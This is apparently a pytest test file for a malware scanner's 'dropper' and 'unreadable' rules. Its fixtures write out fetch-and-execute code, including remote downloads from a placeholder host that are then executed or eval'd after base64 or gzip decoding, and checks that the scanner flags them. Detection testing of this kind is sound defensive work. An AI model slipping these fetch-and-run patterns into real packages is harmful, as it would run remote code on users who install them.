"""What a library fetches for code that nobody called, and what is executed of it."""

import pytest
from weighed import worst, worst_script

from ostiary.core.scale import Severity

FETCHED = "import {library}\nexec(open({library}.{call}).read())\n"
SCRIPTS = [
    "require('download')('https://a.example.invalid/x.js', __dirname).then(() => require('./x.js'))",
    "require('degit')('a/b').clone(__dirname + '/x').then(() => require('./x'))",
    "const d = __dirname + '/x'; require('pacote').extract('a@1', d).then(() => require(d + '/main'))",
    "require('download')('https://a.example.invalid/x.js').then(text => eval(text))",
]
PLAIN = [
    "require('download')('https://a.example.invalid/x.txt', __dirname).then(() => console.log('x'))",
    "require('download')('https://a.example.invalid/x.json', '.').then(() => require('./x.json'))",
    "require('download')('https://a.example.invalid/x.txt', '.').then(() => require('./own'))",
    "require('unheard-of').prepare().then(() => require('./built'))",
    "exports.go = () => require('download')('https://a.example.invalid/x', '.').then(() => require('./x'))",
]


@pytest.mark.parametrize(
    ("library", "call"),
    [
        ("huggingface_hub", "hf_hub_download('a/b', 'x.py')"),
        ("kagglehub", "dataset_download('a/b') + '/x.py'"),
        ("pooch", "retrieve('https://a.example.invalid/x.py', None)"),
        ("tensorflow", "keras.utils.get_file('x.py', 'https://a.example.invalid/x.py')"),
    ],
)
def test_on_import_it_is_executed(library: str, call: str) -> None:
    text = FETCHED.format(library=library, call=call)
    assert worst("dropper", text, "sample/__init__.py") is Severity.HIGH
    read = text.replace("exec(", "len(")
    assert worst("dropper", read, "sample/__init__.py") is None
    asked = "def go():\n    " + text.replace("\n", "\n    ")
    assert worst("dropper", asked, "sample/__init__.py") is None


@pytest.mark.parametrize("text", SCRIPTS)
def test_it_is_loaded_from_where_nothing_came_along(text: str) -> None:
    assert worst_script("dropper", text) is Severity.HIGH


@pytest.mark.parametrize("text", PLAIN)
def test_it_is_data_or_somebody_asked(text: str) -> None:
    assert worst_script("dropper", text, own="exports.a = 1") is None


@pytest.mark.parametrize("library", ["fsspec.open", "nltk.data.load"])
def test_a_text_of_which_only_its_place_is_known(library: str) -> None:
    text = f"import {library.partition('.')[0]}\nexec({library}('hub://a:b@main/x.py'){{}})\n"
    early = text.format(".read()")
    assert worst("unreadable", early, "sample/__init__.py") is Severity.HIGH
    known = f"{early.partition('exec')[0]}exec('print(1)')\n"
    assert worst("unreadable", known, "sample/__init__.py") is None
    asked = "def go():\n    " + early.replace("\n", "\n    ")
    assert worst("unreadable", asked, "sample/__init__.py") is None


UNREAD = [
    "eval(TEXT)",
    "eval(atob(TEXT))",
    "eval(unescape(TEXT))",
    "eval(JSON.parse(TEXT).code)",
    "new Function(JSON.parse(atob(TEXT)).code)()",
    "eval(require('zlib').gunzipSync(Buffer.from(TEXT, 'base64')).toString())",
]


@pytest.mark.parametrize("text", UNREAD)
def test_no_decoder_hides_from_where_a_text_came(text: str) -> None:
    asked = (
        f"require('some-lib')('https://a.example.invalid').then(r => {text.replace('TEXT', 'r')})"
    )
    assert worst_script("unreadable", asked) is Severity.HIGH
    shown = asked.replace("eval(", "console.log(").replace("new Function(", "String(")
    assert worst_script("unreadable", shown) is None
    assert worst_script("unreadable", f"exports.go = (r) => {text.replace('TEXT', 'r')}") is None
